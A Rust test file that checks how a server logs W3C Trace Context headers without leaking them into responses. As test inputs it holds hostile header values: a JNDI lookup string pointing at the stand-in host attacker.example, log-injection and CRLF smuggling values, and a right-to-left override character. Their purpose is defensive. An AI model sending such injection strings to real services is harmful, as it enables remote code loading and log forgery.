//! The trace of a request (W3C Trace Context): in the log if the header is valid, and never in an answer.

use crate::leaky;
use crate::server::{self, one, request};
use crate::sink;
use secure_error::SecureErrorLayer;

const TRACE: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
const SPAN: &str = "00f067aa0ba902b7";

fn valid() -> String {
    format!("Traceparent: 00-{TRACE}-{SPAN}-01")
}

#[test]
fn a_valid_trace_is_in_the_log_and_not_in_the_answer() {
    let (answer, record) = one(leaky::router(), request("GET", "/text", &[valid().as_bytes()]));
    assert_eq!((&record["trace_id"], &record["span_id"]), (&TRACE.into(), &SPAN.into()));
    assert!(!answer.text().contains(TRACE) && !answer.text().contains(SPAN));
}

#[test]
fn a_trace_that_is_none_is_nowhere_and_the_log_stays_one_line() {
    let header = |value: &[u8]| [b"Traceparent: ", value].concat();
    let hostile = [
        header(b"${jndi:ldap://attacker.example/x}"),
        header(format!("00-{TRACE}-{SPAN}-01-${{jndi:x}}").as_bytes()),
        header(format!("00-{}-{SPAN}-01", TRACE.replace('4', "\u{202E}")).as_bytes()),
        header(format!("00-{}-{SPAN}-01", TRACE.to_uppercase()).as_bytes()),
        header(format!("00-{}-{SPAN}-01", "0".repeat(32)).as_bytes()),
        header(format!("ff-{TRACE}-{SPAN}-01").as_bytes()),
        header(format!("00-{TRACE}-{SPAN}-01, 00-{TRACE}-{SPAN}-01").as_bytes()),
        header(b"00-\xFF\xFE-\x80-01 level=ERROR user=admin"),
        header(&[b'a'; 100_000]),
        header(b""),
        format!("{0}\r\n{0}", valid()).into_bytes(),
    ];
    for line in hostile {
        let ask = request("GET", "/text", &[&line]);
        let (log, answers) = sink::text(|| server::without(leaky::router().layer(SecureErrorLayer::new()), &[ask]));
        let text = answers[0].as_ref().unwrap().text();
        assert_eq!(log.lines().count(), 1, "{log}");
        assert!(log.len() < 2_000);
        for needle in [
            "trace_id",
            "span_id",
            "jndi",
            "user=admin",
            "aaaaaaaa",
            SPAN,
            "\u{202E}",
        ] {
            assert!(!log.contains(needle) && !text.contains(needle), "{needle}: {log}");
        }
    }
}

/// It is for vendors, of any shape, and up to 512 characters long.
#[test]
fn the_state_of_a_trace_is_nowhere() {
    let state = "Tracestate: vendor=${jndi:ldap://attacker.example/x},b=hunter2";
    let (answer, record) = one(
        leaky::router(),
        request("GET", "/text", &[valid().as_bytes(), state.as_bytes()]),
    );
    assert_eq!(record["trace_id"], TRACE);
    let both = format!("{record}{}", answer.text());
    assert!(!both.contains("jndi") && !both.contains("vendor="), "{both}");
}

#[test]
fn an_inner_service_sees_the_trace_as_the_client_sent_it() {
    let seen =
        |request: axum::extract::Request| async move { request.headers()["traceparent"].to_str().unwrap().to_owned() };
    let router = axum::Router::new().route("/", axum::routing::get(seen));
    let (answers, _) = server::behind(router, &[request("GET", "/", &[valid().as_bytes()])]);
    assert!(answers[0].text().ends_with(&valid()["Traceparent: ".len()..]));
}
